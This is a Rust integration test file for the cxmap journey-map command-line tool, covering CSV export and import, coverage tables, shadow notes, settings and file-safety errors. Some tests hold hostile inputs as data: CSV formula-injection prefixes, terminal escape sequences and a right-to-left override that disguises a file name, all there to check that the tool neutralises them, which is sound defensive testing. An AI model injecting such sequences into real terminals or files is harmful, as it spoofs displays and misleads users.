        for row in &rows[1..] {
            for (cell, name) in row.iter().zip(&rows[0]) {
                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(
                    !runs || numbers.contains(&name.as_str()),
                    "{out}: column {name} would run {cell:?}"
                );
            }
        }
    }
    let output = cxmap(dir.path(), &["import", "store.csv", "-o", "again.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("again.json")).unwrap(),
        std::fs::read_to_string(dir.path().join(&store)).unwrap(),
        "export → import still gives the same map file"
    );
}

#[test]
fn coverage_with_many_channels_splits_into_tables_that_fit_80_columns() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let path = dir.path().join(&store);
    let mut map = cxmap::format::parse(&std::fs::read_to_string(&path).unwrap())
        .unwrap()
        .map;
    for i in 0..8 {
        map.shadow.channels.push(format!("Channel number {i}"));
    }
    cxmap::store::save_map(&path, &map).unwrap();
    let output = cxmap(dir.path(), &["coverage", &store]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let out = stdout(&output);
    assert!(out.lines().all(|l| l.chars().count() <= 80), "{out}");
    let tables = out.lines().filter(|l| l.starts_with("3 Purchase")).count();
    assert!(tables >= 2, "{out}");
    assert_eq!(
        out.matches("   all").count(),
        1,
        "the total goes with the last table: {out}"
    );
    assert!(out.contains("N Channel number 7"), "{out}");
}

#[test]
fn shadow_add_signs_with_the_configured_observer_before_the_login_name() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    std::fs::create_dir_all(dir.path().join("config")).unwrap();
    std::fs::write(
        dir.path().join("config/settings.json"),
        "{\"observer\": \"Zola\", \"other\": 1}\n",
    )
    .unwrap();
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            &store,
            "--stage",
            "Use",
            "--channel",
            "Website",
            "--text",
            "x",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join(&store)).unwrap())
        .unwrap()
        .map;
    assert_eq!(map.shadow.notes.last().unwrap().observer, "Zola");
}

#[test]
fn memo_is_the_same_every_time_unless_dated() {
    let dir = tempfile::tempdir().unwrap();
    let coffee = example(dir.path(), "coffee-shop");
    let first = cxmap(dir.path(), &["memo", &coffee, "-f", "html"]);
    let second = cxmap(dir.path(), &["memo", &coffee, "-f", "html"]);
    assert_eq!(first.stdout, second.stdout);
    let before = jiff::Zoned::now().date().to_string();
    let dated = stdout(&cxmap(dir.path(), &["memo", &coffee, "--dated"]));
    let after = jiff::Zoned::now().date().to_string();
    assert!(
        dated.contains(&format!("**Written:** {before}")) || dated.contains(&format!("**Written:** {after}")),
        "{dated}"
    );
}

#[test]
fn check_warns_when_a_note_is_linked_to_a_friction_point_elsewhere_or_to_none() {
    let dir = tempfile::tempdir().unwrap();
    let map = r#"{
  "cxmap": 1,
  "stages": [
    {"id": "st-a", "name": "Discover", "emotion": {"score": 1}},
    {"id": "st-b", "name": "Buy", "emotion": {"score": 1},
      "frictions": [{"id": "fr-b", "text": "Queue", "evidence": ["https://example.com/q"]}]}
  ],
  "shadow": {
    "channels": ["Store"],
    "notes": [
      {"id": "sh-1", "at": "2026-11-23T09:30:00Z", "stage": "st-a", "channel": "Store", "text": "Queue", "friction": "fr-b"},
      {"id": "sh-2", "at": "2026-11-23T09:31:00Z", "stage": "st-b", "channel": "Store", "text": "Queue", "friction": "fr-b"},
      {"id": "sh-3", "at": "2026-11-23T09:32:00Z", "stage": "st-b", "channel": "Store", "text": "Gone", "friction": "fr-gone"}
    ]
  }
}
"#;
    std::fs::write(dir.path().join("links.json"), map).unwrap();
    let output = cxmap(dir.path(), &["check", "links.json"]);
    let out = stdout(&output);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines,
        [
            "links.json:11:118: warning: this shadow note is linked to the friction point \"fr-b\" \
             of the stage \"Buy\", but the note is in another stage",
            "links.json:13:117: warning: this shadow note names the friction point \"fr-gone\", \
             but none has that id",
        ],
        "{out}"
    );
}

#[test]
fn coverage_keeps_columns_apart_and_queues_what_the_program_queues() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let path = dir.path().join(&store);
    let mut map = cxmap::format::parse(&std::fs::read_to_string(&path).unwrap())
        .unwrap()
        .map;
    map.shadow.channels.push("Kiosk".into());
    cxmap::store::save_map(&path, &map).unwrap();
    let out = stdout(&cxmap(dir.path(), &["coverage", &store]));
    let table: Vec<&str> = out
        .lines()
        .skip(2)
        .take_while(|l| !l.starts_with("Channels:") && !l.starts_with("gap:"))
        .filter(|l| !l.is_empty())
        .collect();
    assert!(table.len() >= 8, "{out}");
    for line in table
        .iter()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_digit()))
    {
        // Past the stage name, cells stand two spaces apart at least: each is "gap", a
        // count, or either with "+votes".
        let cells: String = line.chars().skip(22).collect();
        for cell in cells.split("  ").map(str::trim).filter(|c| !c.is_empty()) {
            let parts: Vec<&str> = cell.split(' ').collect();
            let ok = match parts.as_slice() {
                [one] => *one == "gap" || one.parse::<usize>().is_ok(),
                [one, votes] => (*one == "gap" || one.parse::<usize>().is_ok()) && votes.starts_with('+'),
                _ => false,
            };
            assert!(ok, "“{cell}” in {line}");
        }
    }
    let headers = table.iter().filter(|l| l.starts_with(' ')).collect::<Vec<_>>();
    assert!(headers.iter().any(|h| h.contains("Mobile app")), "{out}");
    // The queue is the model's: the same cells in the same order as the program shows.
    let coverage = cxmap::model::Coverage::of(&map);
    let queued: Vec<String> = coverage
        .queue
        .iter()
        .take(5)
        .enumerate()
        .map(|(i, &cell)| {
            format!(
                "{:>3}. {}",
                i + 1,
                cxmap::text::display::clean_line(&coverage.entry(&map, cell))
            )
        })
        .collect();
    let printed: Vec<&str> = out.lines().skip_while(|l| *l != "Shadow next:").skip(1).collect();
    assert_eq!(printed, queued);
    assert!(
        coverage
            .queue
            .iter()
            .all(|&c| coverage.votes_at(c) > 0 || coverage.notes_at(c) == 0),
        "only gaps and voted cells"
    );
}

#[test]
fn shadow_add_refuses_an_empty_observer_and_says_when_settings_are_not_json() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let before = std::fs::read(dir.path().join(&store)).unwrap();
    let add = |extra: &[&str]| {
        let mut args = vec![
            "shadow",
            "add",
            &store,
            "--stage",
            "Use",
            "--channel",
            "Website",
            "--text",
            "x",
        ];
        args.extend_from_slice(extra);
        cxmap_as(dir.path(), "amy", &args)
    };
    let output = add(&["--observer", " "]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("--observer is empty"),
        "{}",
        stderr(&output)
    );
    assert_eq!(std::fs::read(dir.path().join(&store)).unwrap(), before);
    std::fs::create_dir_all(dir.path().join("config")).unwrap();
    let settings = dir.path().join("config/settings.json");
    std::fs::write(&settings, "{\"observer\": \"Zola\",").unwrap();
    let output = add(&[]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("is not a JSON object: it is ignored and left as it is"),
        "{}",
        stderr(&output)
    );
    assert_eq!(
        std::fs::read_to_string(&settings).unwrap(),
        "{\"observer\": \"Zola\","
    );
}

#[test]
fn argument_errors_never_echo_control_characters_or_bidi_overrides() {
    let dir = tempfile::tempdir().unwrap();
    for args in [
        vec!["--x\u{202e}gnp.exe\u{9b}2J\u{7}"],
        vec!["export", "map.json", "-f", "m\u{202e}d\u{9b}31m"],
        vec!["check", "--format", "\u{1b}]0;PWNED\u{7}x"],
    ] {
        let output = cxmap(dir.path(), &args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let said = stderr(&output);
        assert!(said.starts_with("error:"), "{said}");
        for raw in ['\u{202e}', '\u{9b}', '\u{7}', '\u{1b}'] {
            assert!(!said.contains(raw), "{args:?} echoed {raw:?}: {said:?}");
        }
    }
}

#[test]
fn outputs_that_are_not_regular_files_are_refused_even_with_force() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let fifo = dir.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    for target in ["/dev/null", fifo.to_str().unwrap()] {
        let output = cxmap(
            dir.path(),
            &["export", &store, "-f", "md", "-o", target, "--force"],
        );
        assert_eq!(output.status.code(), Some(1), "{target}");
        assert!(
            stderr(&output).contains("is not a regular file"),
            "{}",
            stderr(&output)
        );
    }
    use std::os::unix::fs::FileTypeExt;
    assert!(
        std::fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_char_device()
    );
    assert!(std::fs::metadata(&fifo).unwrap().file_type().is_fifo());
    let output = cxmap(dir.path(), &["export", &store, "-f", "mermaid", "-o", "-"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("journey"), "-o - prints");
    assert!(!dir.path().join("-").exists());
}

#[test]
fn a_fifo_is_refused_at_once_instead_of_waiting_forever() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("map.json");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let start = std::time::Instant::now();
    for args in [vec!["check", "map.json"], vec!["map.json"]] {
        let output = cxmap(dir.path(), &args);
        assert_ne!(output.status.code(), Some(0), "{args:?}");
        let said = format!("{}{}", stdout(&output), stderr(&output));
        assert!(said.contains("not a regular file"), "{args:?}: {said}");
    }
    assert!(
        start.elapsed() < std::time::Duration::from_secs(30),
        "nothing waited on the FIFO"
    );
}

#[test]
fn shadow_add_leaves_a_read_only_map_alone() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let path = dir.path().join(&store);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o444)).unwrap();
    let before = std::fs::read(&path).unwrap();
    let args = [
        "shadow",
        "add",
        &store,
        "--stage",
        "1",
        "--channel",
        "Website",
        "--text",
        "x",
    ];
    let output = cxmap_as(dir.path(), "amy", &args);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("read-only"), "{}", stderr(&output));
    assert_eq!(std::fs::read(&path).unwrap(), before);
}

#[test]
fn a_new_map_in_a_folder_that_does_not_exist_is_refused_before_any_work() {
    let dir = tempfile::tempdir().unwrap();
    let output = cxmap(dir.path(), &["no-such-folder/journey.json"]);
    assert_eq!(output.status.code(), Some(2));
    let said = stderr(&output);
    assert!(
        said.contains("its folder no-such-folder does not exist"),
        "the first Ctrl-S would have failed: {said}"
    );
    assert!(!dir.path().join("no-such-folder").exists());
}

#[test]
fn council_top_0_import_of_a_map_and_new_in_a_missing_folder_say_what_is_wrong() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let output = cxmap(dir.path(), &["council", &store, "--top", "0"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("0 lists nothing: give 1 or more, or --all"),
        "{}",
        stderr(&output)
    );
    assert!(!stdout(&output).contains("No open friction points"));

    let output = cxmap(dir.path(), &["import", &store, "-o", "again.json"]);
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(
        err.contains("looks like a cxmap map (JSON), not a CSV sheet"),
        "{err}"
    );
    assert!(err.contains("open it with `cxmap"), "{err}");
    assert!(!err.contains("row 2"), "{err}");
    assert!(!dir.path().join("again.json").exists());

    let output = cxmap(dir.path(), &["new", "x/missing/walk.json"]);
    assert_eq!(output.status.code(), Some(2));
    let err = stderr(&output);
    assert!(err.contains("the folder x/missing does not exist"), "{err}");
    assert!(!dir.path().join("x").exists());
}
